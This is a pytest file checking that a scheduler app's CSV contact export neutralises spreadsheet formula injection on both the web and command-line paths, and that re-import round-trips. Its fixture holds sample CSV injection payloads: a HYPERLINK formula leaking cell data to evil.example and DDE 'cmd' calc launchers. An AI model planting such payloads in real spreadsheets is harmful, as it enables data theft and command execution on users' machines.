"""Exported contacts cannot run as spreadsheet formulas: cells starting with =, +, -, @, a tab
or a carriage return get a leading ' (OWASP CSV injection), on the web and from the command
line alike, and importing the export gives the same contacts back (issue 13, item 8)."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest

from scheduler.model import Contact
from scheduler.text import from_spreadsheet_safe, spreadsheet_safe
from tests.web.support import Web, text
from tests.web.test_cli_foundation import clean_env
from web.composition import Runtime
from web.services.contacts import create_contact

FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "company": "+1+cmd|' /C calc'!A0",
    "title": "-2+3",
    "city": "@SUM(1+1)*cmd|' /C calc'!A0",
    "notes": "\t=1+1",
}


def _rows(exported: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(exported)))


def _add_formula_contact(runtime: Runtime, user_id: int) -> None:
    create_contact(
        runtime,
        user_id,
        Contact(
            id=None,
            name=FORMULAS["name"],
            emails=("mallory@example.org",),
            company=FORMULAS["company"],
            title=FORMULAS["title"],
            city=FORMULAS["city"],
            notes=FORMULAS["notes"],
        ),
    )


def _assert_neutralised(exported: str) -> None:
    [row] = _rows(exported)
    for column, value in FORMULAS.items():
        assert row[column] == "'" + value, column
    assert row["email"] == "mallory@example.org"  # harmless cells are left alone


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+49 30 123", "'+49 30 123"),
        ("-x", "'-x"),
        ("@me", "'@me"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Ana Souza", "Ana Souza"),
        ("", ""),
        ("'quoted", "'quoted"),
    ],
)
def test_the_owasp_rule_and_its_inverse(cell: str, safe: str) -> None:
    assert spreadsheet_safe(cell) == safe
    assert from_spreadsheet_safe(safe) == cell


def test_the_web_export_neutralises_formulas(
    site: Web, owner: int, sqlite_runtime: Runtime
) -> None:
    _add_formula_contact(sqlite_runtime, owner)
    response = site.get("/contacts/export.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    _assert_neutralised(text(response))


def test_the_cli_export_neutralises_formulas_and_reads_back_unchanged(tmp_path: Path) -> None:
    def meetagain(*args: str) -> str:
        done = subprocess.run(
            [sys.executable, "-m", "web", *args],
            cwd=tmp_path,
            env=clean_env(),
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert done.returncode == 0, done.stderr
        return done.stdout

    meetagain("init")
    from integrations.config import load_config

    runtime = Runtime(load_config(None, {"web": {"instance_path": str(tmp_path / "instance")}}))
    _add_formula_contact(runtime, runtime.owner_id())
    runtime.engine.dispose()

    exported = meetagain("contacts", "export")
    _assert_neutralised(exported)
    copy = tmp_path / "export.csv"
    copy.write_text(exported)
    other = f"sqlite:///{tmp_path / 'other.db'}"
    meetagain("--db", other, "init")
    meetagain("--db", other, "contacts", "import", str(copy))
    assert meetagain("--db", other, "contacts", "export") == exported
